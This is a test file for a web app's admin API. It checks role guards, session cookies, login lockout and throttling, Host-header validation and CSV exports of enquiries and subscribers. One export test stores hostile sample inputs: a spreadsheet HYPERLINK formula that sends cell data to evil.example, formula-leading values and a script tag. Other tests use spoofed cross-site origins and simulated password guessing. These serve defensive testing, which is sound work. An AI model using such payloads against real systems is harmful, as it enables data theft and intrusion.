/**
 * Accounts and the admin API over HTTP, on PGlite in memory and on a real
 * PostgreSQL server (R-ROLE-03, R-ROLE-07, R-ROLE-08, R-OPEN-10,
 * R-OPEN-12, R-OPEN-13, R-OPEN-51).
 */
import { count, desc, eq } from "drizzle-orm";
import Papa from "papaparse";
import { describe, expect } from "vitest";
import type {
  AuditEntry,
  EnquiryDetail,
  EnquirySummary,
  Overview,
  Page,
  PrivacyReport,
  ReminderRow,
  SubscriberRow,
  WaitlistRow,
} from "../../core/admin-api";
import { revokeAdmin } from "./accounts.server";
import { LOGIN_LIMITS } from "../auth/login-throttle.server";
import { UNKNOWN_HOST } from "../auth/routes.server";
import {
  androidWaitlist,
  auditLog,
  contactEnquiries,
  newsletterSubscribers,
  renewalReminders,
  user,
  userRoles,
} from "../db/schema";
import { apiTest as it, createHarness, describeOnDatabases, type Harness } from "../../tests/support/api";
import { ADMIN, MEMBER, signInAdminAndMember, SOME_ID } from "../../tests/support/api-fixtures";

describeOnDatabases("accounts and /api/admin", (databaseUrl) => {
  let api: Harness;
  let adminCookie: string;
  let memberCookie: string;

  it.beforeEach(async ({ api: harness }) => {
    api = harness;
    ({ admin: adminCookie, member: memberCookie } = await signInAdminAndMember(api));
  });

  /** Every admin route the router knows, read from the router itself. */
  function adminRoutes() {
    return api.app.routes
      .filter((route) => route.path.startsWith("/api/admin/") && route.method !== "ALL")
      .map((route) => ({ method: route.method, path: route.path.replace(/:id\b/g, SOME_ID).replace(/^\/api/, "") }));
  }

  /** The privacy tool's report for an address, as the admin sees it. */
  async function privacyLookup(email: string) {
    const response = await api.api("/admin/privacy/lookup", { method: "POST", body: { email }, cookie: adminCookie });
    return (await response.json()) as PrivacyReport;
  }

  async function sendContact(fields: Record<string, string>, ip = "203.0.113.50") {
    const token = await api.csrf(ip);
    const response = await api.call("contact-submit", {
      ip,
      body: {
        firstName: "Layla",
        lastName: "Haddad",
        email: "layla@example.com",
        subject: "Question about cashback",
        message: "How is the cashback paid at renewal?",
        ...token,
        ...fields,
      },
    });
    expect(response.status).toBe(201);
  }

  describe("the guard (R-ROLE-08, R-OPEN-12)", () => {
    it("finds every admin route in the router, at least the dozen this issue built", () => {
      const routes = adminRoutes();
      expect(routes.length).toBeGreaterThanOrEqual(12);
      expect(routes).toContainEqual({ method: "PATCH", path: `/admin/enquiries/${SOME_ID}` });
      expect(routes).toContainEqual({ method: "POST", path: "/admin/privacy/erase" });
    });

    it("answers 401 without a session and 403 without the admin role on every admin route", async () => {
      for (const { method, path } of adminRoutes()) {
        const body = method === "GET" ? undefined : {};
        const anonymous = await api.api(path, { method, body });
        expect(anonymous.status, `${method} ${path} anonymous`).toBe(401);
        // The public key is not a session either.
        const withKey = await api.api(path, {
          method,
          body,
          headers: { apikey: "test-public-key", authorization: "Bearer test-public-key" },
        });
        expect(withKey.status, `${method} ${path} with the public key`).toBe(401);
        const member = await api.api(path, { method, body, cookie: memberCookie });
        expect(member.status, `${method} ${path} non-admin`).toBe(403);
        const admin = await api.api(path, { method, body, cookie: adminCookie });
        expect([401, 403], `${method} ${path} admin`).not.toContain(admin.status);
      }
    });

    it("checks the role on every request: revoking it locks out an open session", async () => {
      expect((await api.api("/admin/overview", { cookie: adminCookie })).status).toBe(200);
      await revokeAdmin({ db: api.db, actor: { id: null, email: "cli:test" } }, ADMIN.email);
      expect((await api.api("/admin/overview", { cookie: adminCookie })).status).toBe(401);
      // Role only (sessions kept): 403.
      const again = await api.sessionCookie(ADMIN.email, ADMIN.password);
      expect((await api.api("/admin/overview", { cookie: again })).status).toBe(403);
    });

    it("refuses a change from another site even with the admin's cookie", async () => {
      await sendContact({});
      const [row] = await api.db.select().from(contactEnquiries);
      const response = await api.api(`/admin/enquiries/${row!.id}`, {
        method: "PATCH",
        body: { status: "resolved" },
        cookie: adminCookie,
        headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
      });
      expect(response.status).toBe(403);
      expect((await api.db.select().from(contactEnquiries))[0]!.status).toBe("new");
    });

    it("lets a user read only their own roles (R-CALL-09)", async () => {
      expect((await api.api("/me/roles")).status).toBe(401);
      const admin = (await (await api.api("/me/roles", { cookie: adminCookie })).json()) as { roles: string[] };
      expect(admin.roles).toEqual(["admin"]);
      const member = (await (await api.api("/me/roles", { cookie: memberCookie })).json()) as { roles: string[] };
      expect(member.roles).toEqual([]);
    });
  });

  describe("sign-in (R-ROLE-07, R-OPEN-13)", () => {
    it("sets an httpOnly, Secure, SameSite=Strict session cookie and reports the session", async () => {
      const response = await api.signIn(ADMIN.email.toUpperCase(), ADMIN.password);
      expect(response.status).toBe(200);
      const cookies = response.headers.getSetCookie();
      const sessionCookie = cookies.find((cookie) => cookie.includes("session_token"));
      expect(sessionCookie).toMatch(/HttpOnly/i);
      expect(sessionCookie).toMatch(/Secure/i);
      expect(sessionCookie).toMatch(/SameSite=Strict/i);
      const session = (await (await api.api("/auth/get-session", { cookie: adminCookie })).json()) as {
        user: { email: string };
        session: { expiresAt: string };
      };
      expect(session.user.email).toBe(ADMIN.email);
      expect(new Date(session.session.expiresAt).getTime()).toBeGreaterThan(Date.now());
    });

    it("gives the same answer for a wrong password and an unknown address", async () => {
      const wrongPassword = await api.signIn(ADMIN.email, "not-the-password");
      const unknown = await api.signIn("nobody@drivebee.ae", "not-the-password");
      expect(wrongPassword.status).toBe(401);
      expect(unknown.status).toBe(401);
      expect(await wrongPassword.json()).toEqual({ error: "Invalid email or password" });
      expect(await unknown.json()).toEqual({ error: "Invalid email or password" });
    });

    it("offers no public sign-up and none of the other account endpoints", async () => {
      const signUp = await api.api("/auth/sign-up/email", {
        method: "POST",
        body: { email: "new@example.com", password: "a-long-password-1", name: "New" },
      });
      expect(signUp.status).toBe(404);
      expect(
        (await api.api("/auth/request-password-reset", { method: "POST", body: { email: ADMIN.email } })).status,
      ).toBe(404);
      expect((await api.db.select({ n: count() }).from(user))[0]!.n).toBe(2);
    });

    it("signs out: the cookie no longer opens a session", async () => {
      const response = await api.api("/auth/sign-out", { method: "POST", body: {}, cookie: adminCookie });
      expect(response.status).toBe(200);
      expect((await api.api("/admin/overview", { cookie: adminCookie })).status).toBe(401);
    });

    it(`locks an account for 15 minutes after ${LOGIN_LIMITS.accountFailures} failures in a row, to every address that failed`, async () => {
      for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures; attempt++) {
        const response = await api.signIn(ADMIN.email, `wrong-${attempt}`, { ip: `192.0.2.${attempt + 1}` });
        expect(response.status).toBe(401);
      }
      // Even the right password, from an address that took part.
      const locked = await api.signIn(ADMIN.email, ADMIN.password, { ip: "192.0.2.1" });
      expect(locked.status).toBe(429);
      expect(Number(locked.headers.get("retry-after"))).toBeGreaterThan(14 * 60);
      expect(((await locked.json()) as { error: string }).error).toBe(
        "Too many sign-in attempts. Please try again in 15 minutes.",
      );
      // Other accounts are not affected.
      expect((await api.signIn(MEMBER.email, MEMBER.password, { ip: "192.0.2.1" })).status).toBe(200);
      api.advance(LOGIN_LIMITS.lockMs + 1000);
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "192.0.2.1" })).status).toBe(200);
    }, 30_000);

    it("an attacker cannot lock the admin out: from a client the admin signed in from before, the right password still signs in", async () => {
      const attacker = "203.0.113.66";
      for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures + 2; attempt++) {
        expect((await api.signIn(ADMIN.email, `guess-${attempt}`, { ip: attacker })).status).toBe(
          attempt < LOGIN_LIMITS.accountFailures ? 401 : 429,
        );
      }
      // The attacker's address is refused even with the right password, without a password check.
      const checks = api.passwordChecks();
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: attacker })).status).toBe(429);
      expect(api.passwordChecks()).toBe(checks);
      // The admin, from the address they signed in from before this test, is in.
      const admin = await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.7" });
      expect(admin.status).toBe(200);
      expect(admin.headers.getSetCookie().some((cookie) => cookie.includes("session_token"))).toBe(true);
    }, 30_000);

    /** Locks ADMIN's account: `accountFailures` wrong passwords, each from an address of its own that never signed in. */
    async function lockAdmin() {
      for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures; attempt++)
        expect((await api.signIn(ADMIN.email, `guess-${attempt}`, { ip: `203.0.113.${attempt + 1}` })).status).toBe(
          401,
        );
      expect((await api.signIn(ADMIN.email, "one-more-guess", { ip: "203.0.113.1" })).status).toBe(429);
    }

    it("a locked account gets no password check from a new address: 15 new addresses, no check (R-SAFE-13)", async () => {
      await lockAdmin();
      const checks = api.passwordChecks();
      const newAddresses = [
        ...Array.from({ length: 13 }, (_, n) => `203.0.113.${101 + n}`),
        "2001:db8:66::1",
        "2001:db8:67::1",
      ];
      for (const ip of newAddresses) {
        const answer = await api.signIn(ADMIN.email, `fresh-guess-${ip}`, { ip });
        expect(answer.status, ip).toBe(429);
        expect(Number(answer.headers.get("retry-after"))).toBeGreaterThan(14 * 60);
      }
      // Not even the right password: a new address cannot tell a locked account's password from a wrong one.
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "203.0.113.200" })).status).toBe(429);
      expect(api.passwordChecks()).toBe(checks);
    }, 30_000);

    it("an address that signed in before still gets its check on a locked account, with a budget of its own (R-SAFE-14)", async () => {
      // The admin's usual networks: 198.51.100.7 (the sign-in before each test) and an IPv6 /64.
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "2001:db8:7:7::1" })).status).toBe(200);
      await lockAdmin();
      // A typo does not cost the admin the exemption: their address has the account's budget, not one try.
      expect((await api.signIn(ADMIN.email, "a-typo", { ip: "198.51.100.7" })).status).toBe(401);
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.7" })).status).toBe(200);
      await lockAdmin();
      // The same /64 is the same client, whichever of its addresses the device uses today.
      expect((await api.signIn(ADMIN.email, "a-typo", { ip: "2001:db8:7:7:a:b:c:d" })).status).toBe(401);
      const admin = await api.signIn(ADMIN.email, ADMIN.password, { ip: "2001:db8:7:7:a:b:c:d" });
      expect(admin.status).toBe(200);
      expect(admin.headers.getSetCookie().some((cookie) => cookie.includes("session_token"))).toBe(true);
      // Another account's sign-in from an address does not open this account's lock to it.
      expect((await api.signIn(MEMBER.email, MEMBER.password, { ip: "198.51.100.30" })).status).toBe(200);
      await lockAdmin();
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.30" })).status).toBe(429);
    }, 60_000);

    it(`a known address's own budget on a locked account is ${LOGIN_LIMITS.accountFailures} failures too (R-SAFE-14)`, async () => {
      await lockAdmin();
      const checks = api.passwordChecks();
      for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures; attempt++)
        expect((await api.signIn(ADMIN.email, `inside-guess-${attempt}`, { ip: "198.51.100.7" })).status).toBe(401);
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.7" })).status).toBe(429);
      expect(api.passwordChecks() - checks).toBe(LOGIN_LIMITS.accountFailures);
      api.advance(LOGIN_LIMITS.lockMs + 1000);
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.7" })).status).toBe(200);
    }, 60_000);

    it(`${LOGIN_LIMITS.accountFailures * 4} parallel wrong passwords for one account: at most ${LOGIN_LIMITS.accountFailures} reach the password check`, async () => {
      const before = api.passwordChecks();
      const responses = await Promise.all(
        Array.from({ length: LOGIN_LIMITS.accountFailures * 4 }, (_, attempt) =>
          api.signIn(ADMIN.email, `parallel-${attempt}`, { ip: "203.0.113.70" }),
        ),
      );
      const statuses = responses.map((response) => response.status);
      expect(api.passwordChecks() - before).toBeLessThanOrEqual(LOGIN_LIMITS.accountFailures);
      expect(statuses.filter((status) => status === 401).length).toBeLessThanOrEqual(LOGIN_LIMITS.accountFailures);
      expect(statuses.every((status) => [401, 429, 503].includes(status))).toBe(true);
      // Everything past the tenth is refused by the count (429), or shed by a full hash queue before it was counted (503).
      const shed = statuses.filter((status) => status === 503).length;
      expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(
        LOGIN_LIMITS.accountFailures * 3 - shed,
      );
      // The admin still signs in from elsewhere.
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.21" })).status).toBe(200);
    }, 30_000);

    it(`${LOGIN_LIMITS.ipFailures * 2} parallel wrong passwords from one address over several accounts: at most ${LOGIN_LIMITS.ipFailures} reach the password check`, async () => {
      const before = api.passwordChecks();
      const responses = await Promise.all(
        Array.from({ length: LOGIN_LIMITS.ipFailures * 2 }, (_, attempt) =>
          api.signIn(`victim${attempt % 10}@drivebee.ae`, "guess", { ip: "198.51.100.77" }),
        ),
      );
      const statuses = responses.map((response) => response.status);
      expect(api.passwordChecks() - before).toBeLessThanOrEqual(LOGIN_LIMITS.ipFailures);
      // Past the thirtieth the count refuses (429); a full hash queue sheds some before they are counted (503).
      expect(statuses.every((status) => [401, 429, 503].includes(status))).toBe(true);
      const shed = statuses.filter((status) => status === 503).length;
      expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(LOGIN_LIMITS.ipFailures - shed);
      for (const response of responses.filter((r) => r.status === 503))
        expect(Number(response.headers.get("retry-after"))).toBeGreaterThan(0);
    }, 30_000);

    it("locks a non-existent address exactly like a real one (a lock reveals nothing)", async () => {
      for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures; attempt++) {
        await api.signIn("ghost@drivebee.ae", `wrong-${attempt}`, { ip: `192.0.2.${attempt + 1}` });
        await api.signIn(MEMBER.email, `wrong-${attempt}`, { ip: `192.0.2.${attempt + 1}` });
      }
      expect((await api.signIn("ghost@drivebee.ae", "whatever-it-is", { ip: "192.0.2.9" })).status).toBe(429);
      expect((await api.signIn(MEMBER.email, "whatever-it-is", { ip: "192.0.2.9" })).status).toBe(429);
    }, 30_000);

    it("a success resets the count: failures must be consecutive", async () => {
      for (let round = 0; round < 2; round++) {
        for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures - 1; attempt++) {
          expect((await api.signIn(ADMIN.email, "wrong-password", { ip: `192.0.2.${attempt + 1}` })).status).toBe(401);
        }
        // From an address that failed too: only the reset lets it in again in the next round.
        expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "192.0.2.1" })).status).toBe(200);
      }
    }, 30_000);

    it(`limits one address to ${LOGIN_LIMITS.ipFailures} failures, so it cannot lock out everyone`, async () => {
      const ip = "198.51.100.66";
      for (let attempt = 0; attempt < LOGIN_LIMITS.ipFailures; attempt++) {
        // Spread over many addresses, none reaching its own account limit.
        expect((await api.signIn(`victim${attempt % 5}@drivebee.ae`, "guess", { ip })).status).toBe(401);
      }
      expect((await api.signIn("victim9@drivebee.ae", "guess", { ip })).status).toBe(429);
      // The admin, from their own address, is not locked out.
      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.1" })).status).toBe(200);
    }, 30_000);

    it("rejects a malformed login with the same message and no lookup", async () => {
      const response = await api.api("/auth/sign-in/email", {
        method: "POST",
        body: { email: "not-an-email", password: "" },
      });
      expect(response.status).toBe(400);
      expect(await response.json()).toEqual({ error: "Invalid email or password" });
    });
  });

  describe("the hosts the login is served on (security review)", () => {
    it("answers 400 with a JSON message, never 500, for a Host the site does not serve, on every route that reads the session", async () => {
      const routes = [
        ...adminRoutes(),
        { method: "GET", path: "/me/roles" },
        { method: "GET", path: "/auth/get-session" },
        { method: "POST", path: "/auth/sign-out" },
        { method: "POST", path: "/auth/sign-in/email" },
      ];
      for (const { method, path } of routes) {
        for (const host of ["evil.example", "drivebee.ae.evil.example", "localhost.evil.example:3000"]) {
          const body = method === "GET" ? undefined : path === "/auth/sign-in/email" ? ADMIN : {};
          const response = await api.api(path, {
            method,
            body,
            cookie: adminCookie,
            headers: { host, origin: `https://${host}` },
          });
          expect(response.status, `${method} ${path} at ${host}`).toBe(400);
          expect(await response.json(), `${method} ${path} at ${host}`).toEqual({ error: UNKNOWN_HOST });
        }
      }
      // The session itself was never touched: on the site's own host it still works.
      expect((await api.api("/admin/overview", { cookie: adminCookie })).status).toBe(200);
    }, 30_000);

    it("in production the login is not served on localhost or 127.0.0.1, only on the site's own host", async () => {
      const production = await createHarness({ databaseUrl, nodeEnv: "production" });
      try {
        await production.createUser(ADMIN.email, ADMIN.password);
        for (const at of ["http://localhost:3000", "http://localhost", "http://127.0.0.1:3000"]) {
          const refused = await production.signIn(ADMIN.email, ADMIN.password, { at });
          expect(refused.status, at).toBe(400);
          expect(refused.headers.getSetCookie(), at).toEqual([]);
          expect((await production.api("/me/roles", { headers: { host: new URL(at).host } })).status, at).toBe(400);
        }
        expect((await production.signIn(ADMIN.email, ADMIN.password, { at: "https://drivebee.ae" })).status).toBe(200);
      } finally {
        await production.close();
      }
    }, 60_000);

    it("in test and development the login works on localhost", async () => {
      expect((await api.signIn(ADMIN.email, ADMIN.password, { at: "http://localhost:3000" })).status).toBe(200);
      expect((await api.signIn(ADMIN.email, ADMIN.password, { at: "http://127.0.0.1:5173" })).status).toBe(200);
      const development = await createHarness({ databaseUrl, nodeEnv: "development" });
      try {
        await development.createUser(ADMIN.email, ADMIN.password);
        expect((await development.signIn(ADMIN.email, ADMIN.password, { at: "http://localhost:3000" })).status).toBe(
          200,
        );
      } finally {
        await development.close();
      }
    }, 60_000);
  });

  describe("the leads (R-OPEN-10, R-OPEN-51)", () => {
    it("shows the admin exactly the leads created through the public functions", async () => {
      await sendContact({ firstName: "Omar", email: "omar@example.com", subject: "Fleet policy" });
      await sendContact({ firstName: "Aisha", email: "aisha@example.com", subject: "Cashback timing" }, "203.0.113.51");
      const reader = { email: "reader@example.com", source: "footer", userAgent: "test", ...(await api.csrf()) };
      expect((await api.call("newsletter-signup", { body: reader })).status).toBe(201);
      expect((await api.call("android-waitlist-signup", { body: { email: "android@example.com" } })).status).toBe(200);

      const enquiries = (await (
        await api.api("/admin/enquiries", { cookie: adminCookie })
      ).json()) as Page<EnquirySummary>;
      expect(enquiries.total).toBe(2);
      expect(enquiries.pageSize).toBe(50);
      expect(enquiries.rows.map((row) => row.email).sort()).toEqual(["aisha@example.com", "omar@example.com"]);
      const subscribers = (await (
        await api.api("/admin/subscribers", { cookie: adminCookie })
      ).json()) as Page<SubscriberRow>;
      // R-FOLLOW-08: a signup waits for its confirmation.
      expect(subscribers.rows.map((row) => [row.email, row.source, row.status])).toEqual([
        ["reader@example.com", "footer", "pending"],
      ]);
      const waitlist = (await (await api.api("/admin/waitlist", { cookie: adminCookie })).json()) as Page<WaitlistRow>;
      // R-SAFE-28: a waitlist signup waits for its confirmation too.
      expect(waitlist.rows.map((row) => [row.email, row.status, row.language])).toEqual([
        ["android@example.com", "pending", "en"],
      ]);

      const overview = (await (await api.api("/admin/overview", { cookie: adminCookie })).json()) as Overview;
      expect(overview.openEnquiries).toBe(2);
      expect(overview.enquiries).toEqual({ today: 2, last7Days: 2, last30Days: 2, total: 2 });
      expect(overview.subscribers.today).toBe(0);
      expect(overview.pendingSubscribers).toBe(1);
      // R-SAFE-32: the waitlist counts confirmed entries, the pending ones beside them.
      expect(overview.waitlist.last30Days).toBe(0);
      expect(overview.pendingWaitlist).toBe(1);
      expect(overview.daily).toHaveLength(30);
      expect(overview.daily.at(-1)).toMatchObject({ enquiries: 2, subscribers: 0, waitlist: 0 });
      // R-FOLLOW-07: this harness has no SMTP_URL, so the overview says mail waits.
      expect(overview.mailConfigured).toBe(false);
    });

    it("searches, pages at 50 rows and filters by status", async () => {
      const rows = Array.from({ length: 55 }, (_, index) => ({
        firstName: "Test",
        lastName: `Person${index}`,
        email: `person${index}@example.com`,
        subject: index === 7 ? "Windscreen 100%_claim" : "General question",
        message: "A message long enough.",
      }));
      await api.db.insert(contactEnquiries).values(rows);
      const first = (await (await api.api("/admin/enquiries", { cookie: adminCookie })).json()) as Page<EnquirySummary>;
      expect(first.rows).toHaveLength(50);
      expect(first.total).toBe(55);
      const second = (await (
        await api.api("/admin/enquiries?page=2", { cookie: adminCookie })
      ).json()) as Page<EnquirySummary>;
      expect(second.rows).toHaveLength(5);
      // % and _ are literal characters in a search.
      const found = (await (
        await api.api(`/admin/enquiries?q=${encodeURIComponent("100%_c")}`, { cookie: adminCookie })
      ).json()) as Page<EnquirySummary>;
      expect(found.rows.map((row) => row.email)).toEqual(["person7@example.com"]);
      const none = (await (
        await api.api(`/admin/enquiries?status=resolved`, { cookie: adminCookie })
      ).json()) as Page<EnquirySummary>;
      expect(none.total).toBe(0);
      expect((await api.api("/admin/enquiries?page=0", { cookie: adminCookie })).status).toBe(400);
      expect((await api.api("/admin/enquiries?status=deleted", { cookie: adminCookie })).status).toBe(400);
    });

    it("moves an enquiry new → in_progress → resolved, persists it and audits who did it", async () => {
      await sendContact({});
      const [row] = await api.db.select().from(contactEnquiries);
      for (const status of ["in_progress", "resolved"] as const) {
        const response = await api.api(`/admin/enquiries/${row!.id}`, {
          method: "PATCH",
          body: { status },
          cookie: adminCookie,
        });
        expect(response.status).toBe(200);
      }
      const detail = (await (
        await api.api(`/admin/enquiries/${row!.id}`, { cookie: adminCookie })
      ).json()) as EnquiryDetail;
      expect(detail.status).toBe("resolved");
      expect(detail.resolvedAt).not.toBeNull();
      expect(detail.message).toBe("How is the cashback paid at renewal?");
      const audit = (await (await api.api("/admin/audit", { cookie: adminCookie })).json()) as Page<AuditEntry>;
      const changes = audit.rows.filter((entry) => entry.action === "enquiry.status");
      expect(changes.map((entry) => [entry.actorEmail, entry.details])).toEqual([
        [ADMIN.email, { from: "in_progress", to: "resolved" }],
        [ADMIN.email, { from: "new", to: "in_progress" }],
      ]);
      expect(
        (
          await api.api(`/admin/enquiries/${row!.id}`, {
            method: "PATCH",
            body: { status: "closed" },
            cookie: adminCookie,
          })
        ).status,
      ).toBe(400);
      expect(
        (
          await api.api(`/admin/enquiries/${SOME_ID}`, {
            method: "PATCH",
            body: { status: "resolved" },
            cookie: adminCookie,
          })
        ).status,
      ).toBe(404);
      expect((await api.api(`/admin/enquiries/not-a-uuid`, { cookie: adminCookie })).status).toBe(404);
    });

    it("exports a hostile enquiry as inert CSV text (formulas neutralised, markup as text)", async () => {
      await sendContact({
        firstName: "Eve",
        lastName: "Attacker",
        subject: '=HYPERLINK("https://evil.example?x="&A1,"Click")',
        message: '@SUM(1+1) and <b>markup</b> in the text, plus a quote " and a comma, here',
      });
      // Stored directly: the public form would refuse these, an old row or another channel might not.
      await api.db.insert(contactEnquiries).values({
        firstName: "+cmd",
        lastName: "-2+3",
        email: "=1+1@example.com",
        subject: "\tTab start",
        message: "\r\n=danger <script>alert(1)</script>",
      });
      const response = await api.api("/admin/enquiries/export.csv", { cookie: adminCookie });
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(response.headers.get("content-disposition")).toMatch(
        /^attachment; filename="enquiries-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const text = await response.text();
      const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ""), {
        header: true,
        skipEmptyLines: true,
      });
      expect(parsed.errors).toEqual([]);
      for (const row of parsed.data) {
        for (const [column, value] of Object.entries(row)) {
          expect(value, `${column}: ${value}`).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
        }
      }
      const hostile = parsed.data.find((row) => row.first_name === "Eve")!;
      expect(hostile.subject).toBe(`'=HYPERLINK("https://evil.example?x="&A1,"Click")`);
      expect(hostile.message).toBe(`'@SUM(1+1) and <b>markup</b> in the text, plus a quote " and a comma, here`);
      const raw = parsed.data.find((row) => row.email === "'=1+1@example.com")!;
      expect(raw.first_name).toBe("'+cmd");
      expect(raw.last_name).toBe("'-2+3");
      expect(raw.subject).toBe("'\tTab start");
      expect(raw.message).toBe("'\r\n=danger <script>alert(1)</script>");
    });

    it("writes times in the CSV files in Gulf time, as the screens show them", async () => {
      // 20:30 UTC on 1 March is 00:30 on 2 March in Dubai (UTC+4).
      const at = new Date("2026-03-01T20:30:00Z");
      await api.db.insert(contactEnquiries).values({
        firstName: "Gulf",
        lastName: "Time",
        email: "gulf@example.com",
        subject: "Time zones",
        message: "When did this arrive?",
        createdAt: at,
      });
      await api.db.insert(newsletterSubscribers).values({ email: "gulf@example.com", source: "footer", createdAt: at });
      await api.db.insert(androidWaitlist).values({ email: "gulf@example.com", createdAt: at });
      for (const list of ["enquiries", "subscribers", "waitlist"]) {
        const csv = await (await api.api(`/admin/${list}/export.csv`, { cookie: adminCookie })).text();
        expect(csv, list).toContain('"2 Mar 2026, 12:30 AM"');
        expect(csv, list).not.toContain("2026-03-01");
      }
    });

    it("R-FOLLOW-13: counts, the list's filter and the CSV show confirmed subscribers and pending ones apart", async () => {
      const at = new Date(api.now());
      await api.db.insert(newsletterSubscribers).values([
        { email: "confirmed@example.com", source: "footer", status: "subscribed", confirmedAt: at },
        { email: "waiting@example.com", source: "popup", confirmationSentAt: at },
        { email: "left@example.com", source: "footer", status: "unsubscribed", unsubscribedAt: at },
      ]);
      const overview = (await (await api.api("/admin/overview", { cookie: adminCookie })).json()) as Overview;
      expect(overview.subscribers).toEqual({ today: 1, last7Days: 1, last30Days: 1, total: 1 });
      expect(overview.pendingSubscribers).toBe(1);
      expect(overview.daily.at(-1)).toMatchObject({ subscribers: 1 });

      const list = async (status: string) =>
        (
          (await (
            await api.api(`/admin/subscribers?status=${status}`, { cookie: adminCookie })
          ).json()) as Page<SubscriberRow>
        ).rows.map((row) => row.email);
      expect(await list("pending")).toEqual(["waiting@example.com"]);
      expect(await list("subscribed")).toEqual(["confirmed@example.com"]);

      const csv = await (
        await api.api("/admin/subscribers/export.csv?status=subscribed", { cookie: adminCookie })
      ).text();
      const [header, ...rows] = Papa.parse<string[]>(csv.replace(/^\uFEFF/, "").trim()).data;
      expect(header).toEqual([
        "email",
        "status",
        "source",
        "subscribed_at",
        "confirmation_sent_at",
        "confirmed_at",
        "unsubscribed_at",
      ]);
      expect(rows.map((row) => [row[0], row[1], row[5] !== ""])).toEqual([
        ["confirmed@example.com", "subscribed", true],
      ]);
      const pendingCsv = await (
        await api.api("/admin/subscribers/export.csv?status=pending", { cookie: adminCookie })
      ).text();
      expect(pendingCsv).toContain('"waiting@example.com","pending","popup"');
      expect(pendingCsv).not.toContain("confirmed@example.com");
    });

    it("unsubscribes a subscriber and marks a waitlist entry notified, with CSV exports", async () => {
      const [subscriber] = await api.db
        .insert(newsletterSubscribers)
        .values({ email: "reader@example.com", source: "popup" })
        .returning();
      const [entry] = await api.db.insert(androidWaitlist).values({ email: "android@example.com" }).returning();
      const unsubscribed = (await (
        await api.api(`/admin/subscribers/${subscriber!.id}/unsubscribe`, {
          method: "POST",
          body: {},
          cookie: adminCookie,
        })
      ).json()) as SubscriberRow;
      expect(unsubscribed.status).toBe("unsubscribed");
      expect(unsubscribed.unsubscribedAt).not.toBeNull();
      const notified = (await (
        await api.api(`/admin/waitlist/${entry!.id}/notified`, { method: "POST", body: {}, cookie: adminCookie })
      ).json()) as WaitlistRow;
      expect(notified.notifiedAt).not.toBeNull();
      const pending = (await (
        await api.api("/admin/waitlist?notified=no", { cookie: adminCookie })
      ).json()) as Page<WaitlistRow>;
      expect(pending.total).toBe(0);

      const subscribersCsv = await (await api.api("/admin/subscribers/export.csv", { cookie: adminCookie })).text();
      expect(subscribersCsv).toContain('"reader@example.com","unsubscribed","popup"');
      const waitlistCsv = await (await api.api("/admin/waitlist/export.csv", { cookie: adminCookie })).text();
      expect(waitlistCsv).toContain('"android@example.com","pending","en","app_download_dialog"');
      const actions = (await api.db.select({ action: auditLog.action }).from(auditLog)).map((row) => row.action);
      expect(actions).toEqual(
        expect.arrayContaining([
          "subscriber.unsubscribe",
          "waitlist.notified",
          "subscribers.export",
          "waitlist.export",
        ]),
      );
    });
  });

  describe("renewal reminders", () => {
    it("R-FOLLOW-47: lists reminders newest first with the address masked, filters by status and searches; the CSV has them in full", async () => {
      const base = { source: "home", consentAt: new Date("2026-03-01T08:00:00Z") } as const;
      await api.db.insert(renewalReminders).values([
        { ...base, email: "layla@example.com", renewalMonth: "2026-05", createdAt: new Date("2026-03-01T08:00:00Z") },
        {
          ...base,
          email: "huda@example.com",
          renewalMonth: "2026-09",
          status: "scheduled",
          language: "ar",
          source: "quote_dialog",
          createdAt: new Date("2026-03-02T08:00:00Z"),
          confirmedAt: new Date("2026-03-02T09:00:00Z"),
        },
      ]);
      expect((await api.api("/admin/reminders")).status).toBe(401);
      const all = (await (await api.api("/admin/reminders", { cookie: adminCookie })).json()) as Page<ReminderRow>;
      expect(all.total).toBe(2);
      expect(all.rows.map((row) => [row.email, row.renewalMonth, row.status, row.language, row.source])).toEqual([
        ["h***@example.com", "2026-09", "scheduled", "ar", "quote_dialog"],
        ["l***@example.com", "2026-05", "pending", "en", "home"],
      ]);
      expect(all.rows[0]!.confirmedAt).toBe("2026-03-02T09:00:00.000Z");
      const scheduled = (await (
        await api.api("/admin/reminders?status=scheduled", { cookie: adminCookie })
      ).json()) as Page<ReminderRow>;
      expect(scheduled.rows.map((row) => row.renewalMonth)).toEqual(["2026-09"]);
      const searched = (await (
        await api.api("/admin/reminders?q=layla", { cookie: adminCookie })
      ).json()) as Page<ReminderRow>;
      expect(searched.rows.map((row) => row.renewalMonth)).toEqual(["2026-05"]);
      expect((await api.api("/admin/reminders?status=lost", { cookie: adminCookie })).status).toBe(400);

      const csv = await (await api.api("/admin/reminders/export.csv?status=pending", { cookie: adminCookie })).text();
      expect(csv.split("\n")[0]).toContain("renewal_month");
      expect(csv).toContain('"layla@example.com","2026-05","pending","home","en"');
      expect(csv).not.toContain("huda@example.com");
      const actions = (await api.db.select({ action: auditLog.action }).from(auditLog)).map((row) => row.action);
      expect(actions).toContain("reminders.export");
    });
  });

  describe("the privacy request tool", () => {
